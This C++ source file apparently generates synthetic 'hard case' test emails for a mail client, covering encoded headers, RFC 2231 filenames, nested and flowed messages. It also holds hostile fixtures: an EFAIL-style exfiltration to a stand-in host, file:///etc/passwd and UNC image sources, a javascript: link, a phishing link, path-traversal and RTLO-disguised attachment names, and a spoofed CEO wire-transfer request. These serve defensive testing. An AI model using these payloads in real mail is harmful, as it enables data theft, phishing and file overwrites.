#include "hardcases.h"

#include "attachments.h"
#include "mimeencoding.h"
#include "prng.h"

#include <QCryptographicHash>

namespace MailGen {

namespace {

constexpr std::uint64_t HardCaseStream = 0x4843; // "HC"
constexpr qint64 bigAttachmentSize = 20 * 1024 * 1024;

struct Builder {
    QByteArray token; // from the seed: different seeds never share a message
    QList<GeneratedMessage> messages;
    qint64 time = Generator::epoch - 3 * 86400;

    GeneratedMessage &add(const char *name, const QString &subject, const QString &fromName,
                          const QByteArray &fromAddress, const QByteArray &headers, const QByteArray &body)
    {
        GeneratedMessage message;
        message.time = time;
        time += 60;
        message.caseName = QString::fromLatin1(name);
        message.subject = subject;
        message.from.name = fromName;
        message.from.address = fromAddress;
        message.messageId = "<hardcase." + QByteArray(name) + '.' + token + "@quail.example.org>";
        message.content = headers + "Message-ID: " + message.messageId
            + "\nDate: Sat, 29 May 2026 12:00:00 +0000\nMIME-Version: 1.0\n" + body;
        message.hasAttachment = body.contains("Content-Disposition: attachment");
        messages.append(message);
        return messages.last();
    }
};

QByteArray plainPart(const QByteArray &text)
{
    return "Content-Type: text/plain; charset=us-ascii\n\n" + text + '\n';
}

QByteArray attachmentPart(const QByteArray &typeLine, const QByteArray &disposition, const QByteArray &data)
{
    return typeLine + "\nContent-Transfer-Encoding: base64\nContent-Disposition: " + disposition + "\n\n"
        + Mime::base64Lines(data);
}

QByteArray multipart(const QByteArray &subtype, const QByteArray &boundary, const QList<QByteArray> &parts,
                     const QByteArray &extra = {})
{
    QByteArray out = "Content-Type: multipart/" + subtype + "; boundary=\"" + boundary + '"' + extra + "\n\n";
    for (const QByteArray &part : parts)
        out += "--" + boundary + '\n' + part + '\n';
    out += "--" + boundary + "--\n";
    return out;
}

} // namespace

QList<GeneratedMessage> hardCases(std::uint64_t seed)
{
    Prng prng(deriveSeed(seed, HardCaseStream));
    const QByteArray png = Attachments::png(prng, 8, 8);
    Builder b;
    b.token = QByteArray::number(qulonglong(prng.next()), 16);

    b.add("encoded-headers", QStringLiteral("Grüße, привет, 日本語 ✓"), QStringLiteral("Jörg Müller"),
          "joerg.mueller@example.org",
          "From: =?ISO-8859-1?Q?J=F6rg_M=FCller?= <joerg.mueller@example.org>\n"
          "To: =?KOI8-R?B?6dfBziDwxdTSz9c=?= <ivan@example.net>\n"
          "Subject: =?ISO-8859-1?Q?Gr=FC=DFe,?= =?KOI8-R?B?INDSydfF1Cw=?=\n"
          " =?ISO-2022-JP?B?IBskQkZ8S1w4bBsoQg==?= =?UTF-8?Q?_=E2=9C=93?=\n",
          "Content-Type: text/plain; charset=ISO-8859-2\nContent-Transfer-Encoding: quoted-printable\n\n"
          "Za=BF=F3=B3=E6 g=EA=B6l=B1 ja=BC=F1 - ISO-8859-2 text.\n");

    b.add("rfc2231-names", QStringLiteral("Three files with encoded names"), QStringLiteral("Ana Souza"),
          "ana.souza@example.com",
          "From: Ana Souza <ana.souza@example.com>\nTo: quail@example.org\n"
          "Subject: Three files with encoded names\n",
          multipart(
              "mixed", "=_rfc2231",
              {plainPart("See the three files."),
               attachmentPart("Content-Type: application/pdf",
                              "attachment; filename*=UTF-8''%E2%82%AC%20Rechnung%20M%C3%A4rz.pdf",
                              Attachments::pdf(QStringLiteral("Rechnung"), {QStringLiteral("März")})),
               attachmentPart("Content-Type: text/plain; charset=ISO-8859-1",
                              "attachment;\n filename*0*=ISO-8859-1''Gr%FC%DFe%20aus%20;\n filename*1=K;\n"
                              " filename*2*=%F6ln.txt",
                              "Gr\xfc\xdf"
                              "e\n"),
               attachmentPart("Content-Type: image/png; name=\"=?UTF-8?B?5YaZ55yfLnBuZw==?=\"", "attachment", png)}));

    const QByteArray inner = "From: =?UTF-8?Q?Am=C3=A9lie?= <amelie@example.net>\nTo: ana.souza@example.com\n"
                             "Subject: =?UTF-8?B?UsOpdW5pb24gZGUgbCfDqXF1aXBl?=\n"
                             "Date: Fri, 22 May 2026 08:30:00 +0200\nMessage-ID: <inner.nested@example.net>\n"
                             "MIME-Version: 1.0\n"
        + multipart("alternative", "=_inner",
                    {plainPart("Inner plain text."),
                     "Content-Type: text/html; charset=utf-8\n\n<p>Inner <b>HTML</b> text.</p>\n"});
    b.add("nested-rfc822", QStringLiteral("Fwd: Réunion de l'équipe"), QStringLiteral("Ana Souza"),
          "ana.souza@example.com",
          "From: Ana Souza <ana.souza@example.com>\nTo: quail@example.org\n"
          "Subject: =?UTF-8?Q?Fwd:_R=C3=A9union_de_l'=C3=A9quipe?=\n",
          multipart("mixed", "=_outer",
                    {plainPart("Forwarded below."),
                     "Content-Type: message/rfc822\nContent-Disposition: inline\n\n" + inner}));

    b.add("inline-cid", QStringLiteral("Our logo, inline"), QStringLiteral("Design Team"), "design@example.com",
          "From: Design Team <design@example.com>\nTo: quail@example.org\nSubject: Our logo, inline\n",
          multipart("alternative", "=_alt",
                    {plainPart("Our logo (HTML only)."),
                     multipart("related", "=_rel",
                               {"Content-Type: text/html; charset=utf-8\n\n"
                                "<p>Logo: <img src=\"cid:logo@hardcases.example\" alt=\"logo\"></p>\n"
                                "<p>Elsewhere: <img src=\"cid:elsewhere@other.example\" alt=\"other\"></p>\n",
                                "Content-Type: image/png\nContent-Transfer-Encoding: base64\n"
                                "Content-ID: <logo@hardcases.example>\nContent-Disposition: inline\n\n"
                                    + Mime::base64Lines(png)},
                               "; type=\"text/html\"")}));

    const QByteArray dataImage = "data:image/png;base64," + png.toBase64();
    b.add("remote-content", QStringLiteral("Newsletter with remote content"), QStringLiteral("Shop News"),
          "news@example.com",
          "From: Shop News <news@example.com>\nTo: quail@example.org\nSubject: Newsletter with remote content\n",
          "Content-Type: text/html; charset=utf-8\n\n"
          "<html><head>\n"
          "<link rel=\"stylesheet\" href=\"http://remote.example.net/link.css\">\n"
          "<meta http-equiv=\"refresh\" content=\"0; url=http://remote.example.net/refresh\">\n"
          "<style>@import url(http://remote.example.net/import.css); p { background: "
          "url(http://remote.example.net/style-bg.png) }</style>\n"
          "<script>document.write('<img src=\"http://remote.example.net/script.png\">')</script>\n"
          "</head><body>\n"
          "<p>Newsletter text.</p>\n"
          "<p><img src=\"http://remote.example.net/banner.png\" width=\"8\" height=\"8\"></p>\n"
          "<p><img src=\"http://remote.example.net/second.png\"></p>\n"
          "<div style=\"background-image: url(http://remote.example.net/div-bg.png)\">Styled text.</div>\n"
          "<table background=\"http://remote.example.net/table-bg.png\"><tr><td>Cell</td></tr></table>\n"
          "<p><img src=\"file:///etc/passwd\"><img src=\"/etc/hostname\"><img src=\"logo.png\">"
          "<img src=\"\\\\attacker.example.net\\share\\x.png\"></p>\n"
          "<p><img src=\""
              + dataImage
              + "\"></p>\n"
                "<iframe src=\"http://remote.example.net/frame.html\"></iframe>\n"
                "<object data=\"http://remote.example.net/object.swf\"></object>\n"
                "<form action=\"http://remote.example.net/form\"><input name=\"q\" value=\"form-field-text\">"
                "</form>\n"
                "<p><a href=\"javascript:alert(1)\">Run</a> <a href=\"http://phish.example.net/login\">"
                "https://bank.example.com/login</a></p>\n"
                "</body></html>\n");

    b.add("efail", QStringLiteral("EFAIL shape"), QStringLiteral("Mallory"), "mallory@example.net",
          "From: Mallory <mallory@example.net>\nTo: quail@example.org\nSubject: EFAIL shape\n",
          multipart("mixed", "=_efail",
                    {"Content-Type: text/html; charset=us-ascii\n\n"
                     "<html><body><img src=\"http://efail.example.net/collect?",
                     "Content-Type: text/plain; charset=us-ascii\n\nSECRET-EFAIL-PLAINTEXT the launch code is 0000",
                     "Content-Type: text/html; charset=us-ascii\n\n\">\n</body></html>"}));

    const QByteArray tiny("x\n");
    b.add("hostile-names", QStringLiteral("Attachments with hostile names"), QStringLiteral("Mallory"),
          "mallory@example.net",
          "From: Mallory <mallory@example.net>\nTo: quail@example.org\nSubject: Attachments with hostile names\n",
          multipart(
              "mixed", "=_hostile",
              {plainPart("Hostile names."),
               attachmentPart("Content-Type: application/octet-stream", "attachment; filename=\"../../.bashrc\"", tiny),
               attachmentPart("Content-Type: application/octet-stream", "attachment; filename*=UTF-8''C%3A%5Cx%5Cy.txt",
                              tiny),
               attachmentPart("Content-Type: application/octet-stream", "attachment; filename=\"CON\"", tiny),
               attachmentPart("Content-Type: application/octet-stream",
                              "attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe", tiny),
               attachmentPart("Content-Type: application/octet-stream",
                              "attachment; filename=\"" + QByteArray(296, 'a') + ".pdf\"", tiny),
               attachmentPart("Content-Type: application/octet-stream", "attachment; filename=\"\"", tiny),
               attachmentPart("Content-Type: application/octet-stream",
                              "attachment; filename*=UTF-8''..%2F..%2Fetc%2Fpasswd", tiny)}));

    b.add("spoofed-sender", QStringLiteral("Urgent wire transfer"), QStringLiteral("ceo@bank.example.com"),
          "attacker@evil.example.net",
          "From: \"ceo@bank.example.com\" <attacker@evil.example.net>\nTo: quail@example.org\n"
          "Subject: Urgent wire transfer\n",
          plainPart("Please wire the money today."));

    b.add("format-flowed", QStringLiteral("Flowed text"), QStringLiteral("Ana Souza"), "ana.souza@example.com",
          "From: Ana Souza <ana.souza@example.com>\nTo: quail@example.org\nSubject: Flowed text\n",
          "Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes\n\n"
          "This paragraph was wrapped by the sen \n"
          "der's mailer with DelSp, so the words join  \n"
          "up again.\n"
          ">Quoted text that  \n"
          ">flows.\n"
          " >Not a quote: space-stuffed.\n"
          "-- \n"
          "Ana\n");

    b.add("broken-encodings", QStringLiteral("Broken charset"), QStringLiteral("Broken Mailer"), "broken@example.com",
          "From: Broken Mailer <broken@example.com>\nTo: quail@example.org\n"
          "Subject: Broken =?x-unknown?Q?charset?=\n",
          "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
          "Valid text, then bytes that are not UTF-8: \xff\xfe end.\n");

    // The big attachment: its bytes from the seed, so the manifest can give
    // their digest without holding them.
    QByteArray big(bigAttachmentSize, Qt::Uninitialized);
    for (qsizetype i = 0; i < big.size(); i += 8) {
        const std::uint64_t word = prng.next();
        for (int k = 0; k < 8 && i + k < big.size(); ++k)
            big[i + k] = char((word >> (8 * k)) & 0xff);
    }
    GeneratedMessage &bigMessage =
        b.add("big-attachment", QStringLiteral("The site backup"), QStringLiteral("Backup Robot"), "backup@example.com",
              "From: Backup Robot <backup@example.com>\nTo: quail@example.org\nSubject: The site backup\n",
              multipart("mixed", "=_big",
                        {plainPart("The backup is attached."),
                         attachmentPart("Content-Type: application/gzip; name=\"backup.tar.gz\"",
                                        "attachment; filename=\"backup.tar.gz\"", big)}));
    bigMessage.facts.insert(QStringLiteral("attachmentSize"), bigAttachmentSize);
    bigMessage.facts.insert(QStringLiteral("attachmentSha256"),
                            QString::fromLatin1(QCryptographicHash::hash(big, QCryptographicHash::Sha256).toHex()));
    return b.messages;
}

} // namespace MailGen
